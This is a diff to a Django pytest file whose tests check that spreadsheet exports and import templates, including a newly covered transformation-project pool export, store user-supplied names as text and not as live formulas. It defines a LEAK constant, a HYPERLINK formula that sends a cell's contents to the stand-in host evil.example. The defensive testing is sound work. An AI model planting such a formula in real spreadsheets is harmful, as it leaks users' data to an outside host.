@@ -20,6 +20,7 @@ from actiondesk.projects.choices import FactorKind
 from actiondesk.projects.models import FactorNeed, Project
 from actiondesk.supervision import services
 from actiondesk.supervision.periods import periods_ensure
+from actiondesk.transformation.models import TransformationProject
 
 pytestmark = pytest.mark.django_db
 LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'
@@ -91,7 +92,8 @@ def test_the_supervision_ledger_writes_indicator_names_and_report_notes_as_text(
     assert {LEAK, MINUS, AT} <= texts
 
 
-@pytest.mark.parametrize("url", ["enterprises:import_template", "projects:ledger_template"])
+@pytest.mark.parametrize("url", ["enterprises:import_template", "projects:ledger_template",
+                                 "transformation:import_template"])
 def test_the_import_templates_hold_no_formula(login, admin, departments, url):
     texts = read_back(login(admin).get(reverse(url)))
     assert texts  # headers and notes, all as text
@@ -100,3 +102,10 @@ def test_the_import_templates_hold_no_formula(login, admin, departments, url):
 def test_an_outsider_gets_no_export_of_another_zone(login, mallory, evil_enterprise):
     texts = read_back(login(mallory).get(reverse("enterprises:export"), {"year": 2025}))
     assert LEAK not in texts
+
+
+def test_the_transformation_pool_export_writes_names_as_text(login, alice, evil_enterprise):
+    Enterprise.objects.filter(pk=evil_enterprise.pk).update(scale_status="industry")
+    TransformationProject.objects.create(enterprise=evil_enterprise, name=ARRAY)
+    texts = read_back(login(alice).get(reverse("transformation:pool"), {"export": "xlsx"}))
+    assert {LEAK, MINUS, ARRAY} <= texts
